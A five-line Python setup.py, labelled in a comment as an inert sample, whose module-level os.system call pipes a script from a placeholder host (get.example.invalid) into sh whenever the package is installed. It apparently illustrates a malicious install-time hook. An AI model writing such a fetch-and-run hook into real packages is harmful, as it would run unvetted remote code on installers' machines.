# INERT SAMPLE: never run.
import os
from setuptools import setup
os.system("curl -fsSL https://get.example.invalid/install.sh | sh")
setup(name="inert-sample")
